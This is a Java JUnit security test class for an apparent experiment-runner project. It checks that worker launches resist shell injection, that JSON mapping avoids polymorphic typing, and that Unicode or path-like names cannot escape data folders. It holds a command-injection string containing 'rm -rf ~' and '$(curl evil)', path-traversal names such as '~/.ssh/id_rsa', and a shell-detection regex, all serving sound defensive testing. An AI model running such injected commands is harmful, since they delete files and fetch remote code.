package reprolab.reliability;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import reprolab.experiment.ExperimentSpec;
import reprolab.experiment.Json;
import reprolab.experiment.ResolvedSeeds;
import reprolab.experiment.RunSpec;
import reprolab.lesson.Lesson;
import reprolab.lesson.LessonJson;
import reprolab.lesson.LessonLibrary;
import reprolab.run.ExperimentFolder;
import reprolab.run.ExperimentStore;
import reprolab.run.WorkerCommand;
import reprolab.run.WorkerMemory;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Security rules of issue 8 that ArchUnit cannot see in bytecode: source text, the worker command
 * line, the shared ObjectMapper's configuration, and names that try to leave the data folder.
 * Path-like names are also covered by ExperimentStoreTest.namesThatLookLikePathsStayInsideTheRoot,
 * LessonLibraryTest.saveAsNeverEscapesTheFolderWhateverTheTitle and
 * ExperimentFolderTest.runIdThatWouldLeaveTheRunsFolderIsRefused; here are the Unicode tricks.
 */
class SecurityTest {

    /** Names whose compatibility forms are dots, slashes and backslashes, or that look like paths. */
    private static final List<String> ESCAPING_NAMES = List.of("\uFF0E\uFF0E\uFF0F\uFF0E\uFF0E\uFF0Fetc",
            "\u2025\u2215tmp", "\u2024\u2024\uFF3C\u2024\u2024\uFF3Cx", "%2e%2e%2f%2e%2e%2f", "~/.ssh/id_rsa", "$HOME",
            "NUL", "com1", ".", "-", "\u202Egnp.exe", "a\u00A0b");

    @TempDir
    Path tmp;

    @Test
    void noSourceEnablesPolymorphicTypingOrStartsAShell() throws IOException {
        Pattern forbidden = Pattern.compile("JsonTypeInfo|DefaultTyping|Runtime\\.getRuntime\\(\\)\\.exec"
                + "|\"(/bin/)?(ba)?sh\"|\"cmd(\\.exe)?\"|\"/c\"|\"-c\"");
        List<String> hits = new ArrayList<>();
        try (Stream<Path> files = Files.walk(Path.of("src", "main", "java"))) {
            for (Path file : files.filter(f -> f.toString().endsWith(".java")).toList()) {
                List<String> lines = Files.readAllLines(file, StandardCharsets.UTF_8);
                for (int i = 0; i < lines.size(); i++) {
                    if (forbidden.matcher(lines.get(i)).find()) {
                        hits.add(file + ":" + (i + 1) + ": " + lines.get(i).trim());
                    }
                }
            }
        }
        assertEquals(List.of(), hits);
    }

    @Test
    void sharedMapperHasNoDefaultTypingAndDetectsDuplicateKeys() {
        assertNull(Json.mapper().getDeserializationConfig().getDefaultTyper(null), "no default typing");
        assertTrue(Json.mapper().getFactory().isEnabled(com.fasterxml.jackson.core.StreamReadFeature.STRICT_DUPLICATE_DETECTION));
    }

    @Test
    void workerIsStartedWithAnArgumentListThatNoSpecTextCanChange() throws Exception {
        String hostile = "x\"; rm -rf ~; $(curl evil) `id` | sh -c 'echo' && cmd /c del";
        RunSpec run = new RunSpec(ExperimentSpec.SCHEMA_VERSION, "run-01", ExperimentSpec.defaults().withName(hostile),
                new ResolvedSeeds(1, 2, 3, 4));
        List<String> command = WorkerCommand.forCurrentJvm()
                .processFor(run, tmp, WorkerMemory.plan(16L << 30, 1)).command();

        assertTrue(Path.of(command.get(0)).getFileName().toString().startsWith("java"), command.get(0));
        for (String arg : command) {
            assertFalse(List.of("sh", "bash", "-c", "/c", "cmd", "cmd.exe").contains(arg), arg);
            assertFalse(arg.contains("rm -rf") || arg.contains("$(") || arg.contains("`"), arg);
        }
        assertEquals(hostile, RunSpec.fromJson(Files.readString(tmp.resolve("run-01.run.json"))).spec().name(),
                "the name travels in the spec file, untouched");
    }

    @Test
    void experimentNamesWithUnicodeLookAlikesOfPathCharactersStayInTheDataFolder() throws Exception {
        Path root = tmp.resolve("data");
        ExperimentStore store = new ExperimentStore(root);
        for (String name : ESCAPING_NAMES) {
            ExperimentFolder folder = store.create(ExperimentSpec.defaults().withName(name));
            assertEquals(root.toAbsolutePath().normalize(), folder.path().getParent(), name);
            assertTrue(folder.path().getFileName().toString().matches("\\d{8}-\\d{6}-[a-z0-9-]+"), folder.path().toString());
        }
        try (Stream<Path> all = Files.walk(tmp)) {
            assertTrue(all.allMatch(p -> p.startsWith(root) || p.equals(tmp)), "nothing written beside the data folder");
        }
        assertEquals(ESCAPING_NAMES.size(), store.list().size());
    }

    @Test
    void lessonTitlesWithUnicodeLookAlikesOfPathCharactersStayInTheLessonFolder() throws Exception {
        Path dir = Files.createDirectory(tmp.resolve("lessons"));
        for (String title : ESCAPING_NAMES) {
            String json = Json.mapper().writeValueAsString(java.util.Map.of("schemaVersion", 1, "title", title,
                    "text", "t"));
            Lesson lesson = LessonJson.parse(json, "x");
            Path file = LessonLibrary.saveAs(lesson, dir);
            assertEquals(dir.toAbsolutePath().normalize(), file.toAbsolutePath().getParent(), title);
            assertTrue(file.getFileName().toString().matches("[a-z0-9][a-z0-9-]*\\.json"), file.toString());
        }
        try (Stream<Path> all = Files.walk(tmp)) {
            assertTrue(all.allMatch(p -> p.startsWith(dir) || p.equals(tmp)), "nothing written beside the lesson folder");
        }
    }
}
